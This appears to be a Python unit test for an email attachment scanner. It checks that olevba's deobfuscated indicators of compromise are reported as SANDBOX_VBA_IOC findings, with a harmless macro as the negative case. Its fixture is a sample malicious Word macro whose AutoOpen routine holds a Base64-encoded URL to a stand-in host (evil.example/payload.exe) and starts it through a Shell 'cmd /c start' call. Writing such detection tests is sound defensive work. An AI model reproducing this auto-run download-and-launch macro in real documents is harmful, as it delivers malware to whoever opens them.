"""Issue 16 item 3: olevba's IOCs, after its deobfuscation (hex, Base64, Dridex, VBA
expressions), become SANDBOX_VBA_IOC with the IOCs in the detail."""

from __future__ import annotations

import base64

from tests.unit.scan.scanfiles import eml, make_ooxml, only
from tests.unit.scan.vbafiles import vba_project_bin

HIDDEN_URL = "http://evil.example/payload.exe"
SOURCE = ('Attribute VB_Name = "Module1"\r\n'
          'Sub AutoOpen()\r\n'
          f'    u = "{base64.b64encode(HIDDEN_URL.encode()).decode()}"\r\n'
          '    h = "203.0.113.7"\r\n'
          '    Shell "cmd /c start " & u\r\n'
          'End Sub\r\n')
HARMLESS = ('Attribute VB_Name = "Module1"\r\nFunction Twice(x)\r\n    Twice = 2 * x\r\n'
            'End Function\r\n')


def document(source: str) -> bytes:
    return make_ooxml("word-macro", extra={"word/vbaProject.bin": vba_project_bin(source)})


def test_deobfuscated_iocs_are_named(analyse) -> None:
    report = analyse(eml(("order.docm", document(SOURCE))))
    att = only(report)
    assert "SANDBOX_VBA_IOC" in att["symbols"], att
    (detail,) = [f["detail"] for f in report["findings"] if f["symbol"] == "SANDBOX_VBA_IOC"]
    assert HIDDEN_URL in detail and "Base64" in detail, detail  # found only once decoded
    assert "203.0.113.7" in detail and "payload.exe" in detail, detail
    assert len(detail) <= 800


def test_a_macro_without_iocs_gets_none(analyse) -> None:
    att = only(analyse(eml(("sums.docm", document(HARMLESS)))))
    assert "SANDBOX_VBA_IOC" not in att["symbols"], att
